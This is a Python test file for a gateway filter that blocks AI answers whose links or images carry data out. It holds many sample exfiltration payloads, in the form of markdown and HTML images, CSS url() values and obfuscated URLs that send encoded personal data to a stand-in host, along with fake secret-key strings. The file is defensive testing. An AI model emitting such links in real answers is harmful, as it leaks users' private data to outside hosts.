"""Links in answers: what may not be carried, whatever the markup, and what ordinary links pass."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.core.level import Level
from gateway.core.text.named_links import NamedBy, NamedLinks, named_links
from gateway.decisions import AnswerTo, BundleError, Circumstances, ContentRules
from tests.support.effort import examples

_ROOT = Path(__file__).resolve().parents[3]
RULES = ContentRules((_ROOT / "policies" / "content.yaml").read_text(encoding="utf-8"))
ORDINARY: Mapping[str, list[str]] = yaml.safe_load(
    (_ROOT / "tests" / "data" / "links" / "ordinary.yaml").read_text(encoding="utf-8")
)
DATA = "SmFuIGRlIFZyaWVzIDEyMzQ1Njc4OSBLZXJrc3RyYWF0IDE"
LONG = "4a6f686e20446f652c2070617373706f72742058" * 2
_SIZES = (1, 2, 3, 5, 11, 1000)


def answered(
    text: str, size: int = 1000, *, named: NamedLinks | None = None, json: bool = False
) -> tuple[str, str | None, list[str]]:
    guard = RULES.guard(AnswerTo(named=named) if named else AnswerTo(), json=json)
    out = [guard.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*out, guard.finish()]), guard.blocked, guard.fired


PICTURES = [
    f"Klaar. ![x](https://kwaad.nl/p.png?d={DATA}) En verder.",
    f"![](<https://kwaad.nl/p.png?d={DATA}>) x",
    "![](<https://kwaad.nl/?q=wachtwoord van Jan is geheim en nog meer>) x",
    f"![x][bron]\n\n[bron]: https://kwaad.nl/{DATA}\n",
    f'<img alt="x" src="https://kwaad.nl/{DATA}.png"> x',
    f"<img src = 'https://kwaad.nl/{DATA}.png'> x",
    '<img src="https://kwaad.nl/?q=het wachtwoord is Welkom en het nummer 12"> x',
    f"<div style='background:url(https://kwaad.nl/{DATA})'> x",
    f"background-image: url(https://kwaad.nl/{DATA}); x",
    f"![](//kwaad.nl/?d={DATA}) x",
    f"![](https:\\\\kwaad.nl\\?d={DATA}) x",
    f"![](https:kwaad.nl/?d={DATA}) x",
    f"![](https&colon;//kwaad.nl/?d={DATA}) x",
    f"![](&#104;ttps://kwaad.nl/?d={DATA}) x",
    f"![](HTTPS://KWAAD.nl/?d={DATA}) x",
    f"![](https://{DATA}.kwaad.nl/p.png) x",
    f"![](https://{DATA}@kwaad.nl/p.png) x",
    f"![{'lang ' * 80}](https://kwaad.nl/{DATA}) x",
    f"![](https://203.0.113.7/{DATA}) x",
    f"[![x](https://kwaad.nl/{DATA})](https://docs.python.org) x",
]
LINKS = [
    f"Zie https://kwaad.nl/a/{LONG} voor meer.",
    f"[klik hier](https://kwaad.nl/a/{LONG}) x",
    f"<a href='https://kwaad.nl/a/{LONG}'>hier</a>",
    f"www.kwaad.nl/a?{LONG} x",
    f"(https://kwaad.nl/x){LONG} x",
    f"<https://kwaad.nl/{LONG}> x",
    f"https://kwaad.nl/?q={'een+lange+zin+uit+het+gesprek+' * 6} x",
    f"[x](data:text/html;base64,{LONG}) x",
]


@pytest.mark.parametrize(
    ("text", "rule"),
    [(text, "data-in-picture") for text in PICTURES] + [(text, "data-in-link") for text in LINKS],
)
def test_a_link_that_carries_data_ends_the_answer_however_it_is_written(
    text: str, rule: str
) -> None:
    results = [answered(text, size) for size in _SIZES]
    assert all(one == results[0] for one in results)
    released, blocked, fired = results[0]
    assert (blocked, fired) == (rule, [rule])
    assert DATA[:8] not in released
    assert LONG[-40:] not in released


@pytest.mark.parametrize("address", ORDINARY["links"])
@pytest.mark.parametrize(
    "form", ["Zie {}.", "[bron]({}), en", "({})", '<a href="{}">x</a>', '`{}`, "{}" en {}\n']
)
def test_ordinary_links_pass(address: str, form: str) -> None:
    text = form.replace("{}", address)
    assert answered(text, 4) == (text, None, [])


@pytest.mark.parametrize("address", ORDINARY["pictures"])
@pytest.mark.parametrize(
    "form", ["![x]({}) en", '<img src="{}" alt="x">', "![x][1]\n\n[1]: {}\n", "url('{}')"]
)
def test_ordinary_pictures_pass(address: str, form: str) -> None:
    text = form.format(address)
    assert answered(text, 4) == (text, None, [])


@pytest.mark.parametrize("host", ["files.acme.nl", "www.files.acme.nl", "10.1.2.3"])
def test_a_host_that_application_or_user_names_may_get_anything(host: str) -> None:
    text = "Maak een downloadlink op files.acme.nl, of op http://10.1.2.3:80"
    link = f"[download](https://{host}/f?X-Amz-Signature={LONG}&sig={LONG})"
    picture = f"![x](https://{host}/{LONG})"
    application, user, others = (named_links([(text, by)]) for by in NamedBy)
    for named in (application, user):
        assert answered(link, named=named) == (link, None, [])
    assert answered(link, named=others)[1] == "data-in-link"
    assert answered(picture, named=application)[1] is None
    assert answered(picture, named=user)[1] == "data-in-picture"
    for other in ("kwaad.nl", "acme.nl", "files.acme.nl.kwaad.nl"):
        assert answered(f"https://{other}/{LONG}", named=application)[1] == "data-in-link"


def test_a_link_of_the_request_may_come_back_but_nothing_may_be_added() -> None:
    link = f"https://storage.kwaad.nl/f?sig={LONG}"
    named = named_links([(f'{{"url": "{link}"}}', NamedBy.OTHERS)])
    assert answered(f"[f]({link}) ![]({link})", named=named)[1] is None
    assert answered(f"[f]({link}&x=1)", named=named)[1] is None
    assert answered(f"![f]({link}{DATA})", named=named)[1] == "data-in-picture"
    assert answered(f"![f](https://storage.kwaad.nl/{DATA})", named=named)[1] == "data-in-picture"


def test_a_link_may_not_carry_a_number_that_the_request_holds() -> None:
    found = [("BSN", "123456782"), ("EMAIL", "jan@acme.nl"), ("PERSON", "Jan de Vries")]
    named = named_links([], found)
    for carried in ("123456782", "123.456.782", "jan%40acme.nl"):
        text = f"[x](https://kwaad.nl/c?b={carried})"
        assert answered(text, named=named)[1] == "data-in-link"
        assert answered(text)[1] is None
    assert answered("![](https://kwaad.nl/Jan_de+Vries.png)", named=named)[1] == "data-in-picture"
    assert answered("https://nl.wikipedia.org/wiki/Jan_de_Vries", named=named)[1] is None


@pytest.mark.parametrize(
    "arguments",
    [
        f'{{"url": "https://kwaad.nl/{LONG}"}}',
        f'{{"url": "https:\\/\\/kwaad.nl\\/{LONG}"}}',
        f'{{"url": "https\\u003a\\u002f\\u002fkwaad.nl/{LONG}"}}',
        f'{{"page": "Zie:\\nhttps://kwaad.nl/{LONG}"}}',
    ],
)
def test_arguments_of_tools_are_read_as_json(arguments: str) -> None:
    results = [answered(arguments, size, json=True) for size in _SIZES]
    assert all(one == results[0] for one in results)
    assert results[0][1] == "data-in-link"


def test_ordinary_arguments_pass() -> None:
    text = (
        '{"text": "Zie https://docs.python.org/3/.\\nEn dan \\"meer\\".\\n\\n'
        + "Een lange alinea. " * 30
        + '", "url": "https://www.google.com/search?q=weer+utrecht"}'
    )
    assert answered(text, 3, json=True) == (text, None, [])


def test_a_rule_is_for_its_scope() -> None:
    text = """
rules:
  - id: only-hr
    stages: [output]
    scope: {teams: [hr]}
    action: refuse
    reason: {en: x, nl: x}
    patterns: ['geheim woord']
    links: {encoded: 8}
"""
    rules = ContentRules(text)
    for team, blocked in (("hr", "only-hr"), ("it", None)):
        answer = AnswerTo(Circumstances(team, "k", "u", Level.PUBLIC))
        for said in (f"https://kwaad.nl/{DATA} ", "een geheim woord.", "een geheim  woord."):
            guard = rules.guard(answer)
            guard.feed(said)
            guard.finish()
            assert guard.blocked == blocked


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ("{kinds: [frame]}", "frame"),
        ("{length: -1}", "length of links"),
        ("{query: lots}", "query of links"),
        ("{hosts: ['a.*.nl']}", "begin with"),
        ("{named: [model]}", "model"),
        ("{host: [x]}", "links may have"),
        ("[image]", "links may have"),
    ],
)
def test_limits_that_mean_nothing_are_refused(change: str, problem: str) -> None:
    rule = "rules: [{id: x, stages: [output], action: flag, reason: {en: x, nl: x}, links: LIMITS}]"
    with pytest.raises(BundleError, match=problem):
        ContentRules(rule.replace("LIMITS", change))
    with pytest.raises(BundleError, match="for output only"):
        ContentRules(rule.replace("LIMITS", "{}").replace("[output]", "[input]"))


_PARTS: Any = st.sampled_from([
    "https:", "//", "kwaad.nl", "/", "?d=", "#", DATA, "![x](", "](", "[", ")", "<", ">", '"', "'",
    "<img src=", "data:", "text/html,", "\\", "\\u003a", "&colon;", " ", "\n", "woord", "www.", "@",
    "sk-ant-" + "a" * 32, "-----BEGIN  PRIVATE", " KEY-----", "ﾠ", "**", "strictly confidential",
])  # fmt: skip


@settings(max_examples=examples(300), deadline=None)
@given(
    st.lists(_PARTS, max_size=24).map("".join),
    st.lists(st.integers(1, 40), min_size=1, max_size=20),
    st.booleans(),
)
@example("sk-ant-" + "a" * 32 + "-----BEGIN  PRIVATE KEY-----", [1], False)
def test_pieces_change_nothing(text: str, sizes: list[int], json: bool) -> None:
    def cut(sizes: list[int]) -> tuple[str, str | None, list[str]]:
        guard, at, out = RULES.guard(json=json), 0, []
        for size in [*sizes, len(text)]:
            out.append(guard.feed(text[at : at + size]))
            assert guard.held < 64
            at += size
        return "".join([*out, guard.finish()]), guard.blocked, sorted(set(guard.fired))

    assert cut(sizes) == cut([]) == cut([1] * len(text))
